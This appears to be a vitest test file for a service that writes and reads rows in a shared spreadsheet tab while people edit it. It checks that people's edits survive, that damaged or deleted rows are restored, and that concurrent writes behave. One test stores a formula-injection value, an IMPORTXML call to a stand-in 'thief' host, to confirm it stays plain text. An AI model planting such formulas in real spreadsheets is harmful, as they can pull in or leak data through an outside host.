/** Tests what a workbook keeps, restores and refuses while people and the service both write. */
import { afterEach, beforeEach, expect, test } from "vitest";
import { choices, openTestWorkbook, ownerRow, owners, type TestWorkbook } from "./open-test-workbook.ts";

let t: TestWorkbook;
beforeEach(async () => {
  t = await openTestWorkbook();
  await t.workbook.draw([owners]);
});
afterEach(() => t.close());

const rowsOf = (names: string) => [...names].map((key) => ownerRow(key));
const keys = async (): Promise<string[]> => (await t.workbook.read(owners)).rows.map((row) => row.key);

test("rows come back as they were written, in order, without damage", async () => {
  expect(await t.workbook.write(owners, [ownerRow("b"), ownerRow("a", { agreed: true, note: "kept" })], { choices })).toEqual({
    kept: 0,
    restored: 0,
  });
  const { rows, damage } = await t.workbook.read(owners);
  expect(damage).toEqual([]);
  expect(rows.map((row) => [row.key, row.rowNumber, row["agreed"], row["note"], row["records"]])).toEqual([
    ["b", 2, false, null, 3],
    ["a", 3, true, "kept", 3],
  ]);
});

test("the edits of two people are kept while the service rewrites the tab in another order", async () => {
  await t.workbook.write(
    owners,
    ["a", "b", "c"].map((key) => ownerRow(key)),
    { choices },
  );
  await t.put("'Ada''s owners'!E2", [["Charles"]], "ada");
  await t.put("'Ada''s owners'!F4:G4", [[true, "mine"]], "charles");
  const answer = await t.workbook.write(owners, [ownerRow("c", { records: 9 }), ownerRow("d"), ownerRow("a")], { choices });
  expect(answer).toEqual({ kept: 3, restored: 0 });
  const { rows } = await t.workbook.read(owners);
  expect(rows.map((row) => [row.key, row["records"], row["user"], row["agreed"], row["note"]])).toEqual([
    ["c", 9, "Ada", true, "mine"],
    ["d", 3, "Ada", false, null],
    ["a", 3, "Charles", false, null],
  ]);
});

test("people's cells of rows that stay in place are not even sent", async () => {
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  await t.put("'Ada''s owners'!G2", [["typed meanwhile"]], "ada");
  const before = t.calls.length;
  await t.workbook.write(owners, [ownerRow("a", { records: 4 }), ownerRow("b", { records: 5 })], { choices });
  // Nothing is put aside first and taken away afterwards, as where people's cells are written.
  expect(t.calls.slice(before).map(({ method }) => method)).toEqual([
    ...["spreadsheets.get", "values.batchGet"],
    "spreadsheets.batchUpdate",
    "values.batchGet",
  ]);
  expect((await t.workbook.read(owners)).rows[0]).toMatchObject({ records: 4, note: "typed meanwhile" });
});

test("overwriting puts the given values in the place of people's", async () => {
  await t.workbook.write(owners, [ownerRow("a")], { choices });
  await t.put("'Ada''s owners'!G2", [["mine"]], "ada");
  expect(await t.workbook.write(owners, [ownerRow("a", { note: "given" })], { choices, overwrite: true })).toEqual({
    kept: 0,
    restored: 0,
  });
  expect((await t.workbook.read(owners)).rows[0]?.["note"]).toBe("given");
});

test("a value that looks like a formula stays text", async () => {
  const formula = '=IMPORTXML("http://thief.example","//a")';
  await t.workbook.write(owners, [ownerRow("a", { owner: formula, note: "+1 234" })], { choices });
  expect((await t.workbook.read(owners)).rows[0]).toMatchObject({ owner: formula, note: "+1 234" });
});

test("a row a person deleted comes back and is counted", async () => {
  await t.workbook.write(
    owners,
    ["a", "b", "c"].map((key) => ownerRow(key)),
    { choices },
  );
  await t.batch([{ deleteDimension: { range: { sheetId: 21, dimension: "ROWS", startIndex: 2, endIndex: 3 } } }]);
  expect((await t.workbook.read(owners)).damage[0]?.message).toBe("1 row was deleted from Ada's owners.");
  expect(
    await t.workbook.write(
      owners,
      ["a", "b", "c"].map((key) => ownerRow(key)),
      { choices },
    ),
  ).toEqual({ kept: 0, restored: 1 });
  expect(await keys()).toEqual(["a", "b", "c"]);
});

test("a row whose key was emptied gets it back and keeps what people wrote in it", async () => {
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  await t.put("'Ada''s owners'!A3", [[""]]);
  await t.put("'Ada''s owners'!G3", [["mine"]], "ada");
  const { rows, damage } = await t.workbook.read(owners);
  expect(rows.map((row) => row.key)).toEqual(["a"]);
  expect(damage[0]).toMatchObject({ where: { tab: "Ada's owners", row: 3, cell: "A3" } });
  expect(await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices })).toEqual({ kept: 1, restored: 1 });
  expect((await t.workbook.read(owners)).rows[1]).toMatchObject({ key: "b", note: "mine" });
});

test("a row a person typed without a key is reported and kept below the others", async () => {
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  await t.batch([{ insertDimension: { range: { sheetId: 21, dimension: "ROWS", startIndex: 1, endIndex: 3 } } }]);
  await t.put("'Ada''s owners'!G2", [["my own row"]], "ada");
  expect((await t.workbook.read(owners)).damage.map((one) => one.where.row)).toEqual([2]);
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  const { rows, damage } = await t.workbook.read(owners);
  expect(rows.map((row) => row.rowNumber)).toEqual([2, 3]);
  expect(damage.map((one) => one.where.row)).toEqual([4]);
});

test("of two rows with one key the first is read and the copy is reported", async () => {
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  await t.put("'Ada''s owners'!A3:G3", [["a", "", "Owner a", 3, "Charles", true, "copy"]]);
  const { rows, damage } = await t.workbook.read(owners);
  expect(rows).toHaveLength(1);
  expect(damage[0]?.message).toBe("Row 3 is a copy of row 2: both have the same key.");
  await t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices });
  expect(await keys()).toEqual(["a", "b"]);
});

test("a tab shrinks and grows with its rows, and only rows with data carry rules", async () => {
  const look = async () => {
    const fields = "sheets(properties.gridProperties.rowCount,data.rowData.values.dataValidation)";
    const sheet = (await t.as("service").spreadsheets.get({ spreadsheetId: t.spreadsheetId, fields })).data.sheets?.[0];
    const ruled = (sheet?.data?.[0]?.rowData ?? []).filter((row) => row.values?.some((cell) => cell.dataValidation)).length;
    return [sheet?.properties?.gridProperties?.rowCount, ruled];
  };
  await t.workbook.write(
    owners,
    Array.from({ length: 40 }, (_, n) => ownerRow(`k${n}`)),
    { choices },
  );
  expect(await look()).toEqual([41, 40]);
  await t.workbook.write(owners, [ownerRow("k7")], { choices });
  expect(await look()).toEqual([2, 1]);
  await t.workbook.write(owners, [], { choices });
  expect(await look()).toEqual([2, 0]);
  expect((await t.workbook.read(owners)).rows).toEqual([]);
});

test("marks change problems and colours by key and nothing else, and go when the problem is gone", async () => {
  await t.workbook.write(owners, [ownerRow("a", { tone: "attention" }), ownerRow("b")], { choices });
  await t.put("'Ada''s owners'!G2", [["mine"]], "ada");
  await t.workbook.mark(owners, new Map([["b", "Nobody of this name."]]));
  const state = async () => (await t.workbook.read(owners)).rows.map((row) => [row["tone"], row["problem"], row["note"]]);
  expect(await state()).toEqual([
    ["attention", null, "mine"],
    ["problem", "Nobody of this name.", null],
  ]);
  await t.workbook.mark(owners, new Map());
  expect(await state()).toEqual([
    ["attention", null, "mine"],
    [null, null, null],
  ]);
  await t.workbook.mark(owners, new Map(), new Map([["b", "done"]]));
  expect(await state()).toEqual([
    [null, null, "mine"],
    ["done", null, null],
  ]);
});

test("two verbs at once do not get into each other's way", async () => {
  await Promise.all([
    t.workbook.write(owners, [ownerRow("a"), ownerRow("b")], { choices }),
    t.workbook.write(owners, [ownerRow("b"), ownerRow("c")], { choices }),
    t.workbook.mark(owners, new Map([["c", "!"]])),
  ]);
  expect((await t.workbook.read(owners)).rows.map((row) => [row.key, row["problem"]])).toEqual([
    ["b", null],
    ["c", "!"],
  ]);
});

test("an interrupted write is reported, and completed by the next one", async () => {
  await t.workbook.write(owners, [ownerRow("a")], { choices });
  await t.put("'Ada''s owners'!B1", [["tone writing rows=1"]]);
  expect((await t.workbook.read(owners)).damage[0]?.message).toContain("was interrupted");
  await t.workbook.write(owners, [ownerRow("a")], { choices });
  expect((await t.workbook.read(owners)).damage).toEqual([]);
});

test("text too long for a cell is cut and says so", async () => {
  await t.workbook.write(owners, [ownerRow("a", { owner: "x".repeat(60_000) })], { choices });
  const owner = String((await t.workbook.read(owners)).rows[0]?.["owner"]);
  expect([owner.length, owner.slice(-7)]).toEqual([50_000, "… (cut)"]);
});

const formula = (row: number, columnAt: number, formulaValue: string) => ({
  updateCells: {
    start: { sheetId: 21, rowIndex: row, columnIndex: columnAt },
    rows: [{ values: [{ userEnteredValue: { formulaValue } }] }],
    fields: "userEnteredValue",
  },
});

test("an invalid cell is reported with its place and its row, and counts as empty", async () => {
  await t.workbook.write(owners, rowsOf("abcd"), { choices });
  await t.batch([formula(1, 6, "=A2&B2")]);
  await t.put("'Ada''s owners'!F3", [["yes"]], "ada");
  await t.put("'Ada''s owners'!G4", [[45_658]], "ada");
  await t.put("'Ada''s owners'!E5", [[true]], "ada");
  const { rows, damage } = await t.workbook.read(owners);
  expect(damage.map((one) => [one.key, one.where.cell, one.message.split(".")[0]])).toEqual([
    ["a", "G2", "Cell G2 contains a formula"],
    ["b", "F3", "Cell F3 was a checkbox and now contains text"],
    [
      "c",
      "G4",
      "Cell G4 contains the number 45658, which is how spreadsheets store the date 2025-01-01: the text you typed or pasted was converted to a date",
    ],
    ["d", "E5", "Cell E5 contains a checkbox value where text is expected"],
  ]);
  expect(damage.every((one) => one.isHarmless !== true && one.hint !== "")).toBe(true);
  expect([rows[0]?.["note"], rows[1]?.["agreed"]]).toEqual([null, false]);
});

test("a formula typed in a renamed tab is found too", async () => {
  await t.workbook.write(owners, rowsOf("a"), { choices });
  await t.batch([
    formula(1, 6, "=1+1"),
    { updateSheetProperties: { properties: { sheetId: 21, title: "Renamed" }, fields: "title" } },
    { addSheet: { properties: { sheetId: 5, title: "Ada's owners" } } },
  ]);
  expect((await t.workbook.read(owners)).damage.map((one) => one.where.cell)).toEqual(["G2"]);
});

test("a row that is not read says so in its own Problem cell, and no longer once it is gone", async () => {
  await t.workbook.write(owners, rowsOf("ab"), { choices });
  await t.batch([{ appendDimension: { sheetId: 21, dimension: "ROWS", length: 2 } }]);
  await t.put("'Ada''s owners'!A4:G4", [["a", "", "Owner a", 3, "Ada", false, "a copy"]]);
  await t.put("'Ada''s owners'!G5", [["typed by hand"]], "ada");
  const problems = async () => {
    await t.workbook.mark(owners, new Map());
    const range = "'Ada''s owners'!H2:H5";
    return (await t.as("service").spreadsheets.values.get({ spreadsheetId: t.spreadsheetId, range })).data.values?.map((row) =>
      String(row[0] ?? "").slice(0, 30),
    );
  };
  expect(await problems()).toEqual(["", "", "Row 4 is a copy of row 2: both", "Row 5 has no key: it was added"]);
  await t.put("'Ada''s owners'!A4:G5", [
    ["", "", "", "", "", "", ""],
    [null, null, null, null, null, null, ""],
  ]);
  expect(await problems()).toBeUndefined();
});

test("pasting over the headings takes nothing away: columns are read by their tags and the headings come back", async () => {
  await t.workbook.write(owners, [ownerRow("a", { note: "kept" })], { choices });
  await t.put("'Ada''s owners'!C1:H1", [["x", "y", "z", "u", "v", "w"]]);
  const { rows, damage } = await t.workbook.read(owners);
  expect(rows[0]).toMatchObject({ owner: "Owner a", user: "Ada", note: "kept" });
  expect(damage.map((one) => one.where.cell)).toEqual(["C1", "D1", "E1", "F1", "G1", "H1"]);
  await t.workbook.write(owners, [ownerRow("a")], { choices });
  expect((await t.workbook.read(owners)).damage).toEqual([]);
});

test("cells of the service's that were pasted over are put right by the next write, the row by its key", async () => {
  await t.workbook.write(owners, rowsOf("ab"), { choices });
  await t.put("'Ada''s owners'!C2:D3", [
    ["pasted", 45_000],
    ["over", "text"],
  ]);
  await t.workbook.write(owners, rowsOf("ab"), { choices });
  expect((await t.workbook.read(owners)).rows.map((row) => [row["owner"], row["records"]])).toEqual([
    ["Owner a", 3],
    ["Owner b", 3],
  ]);
});
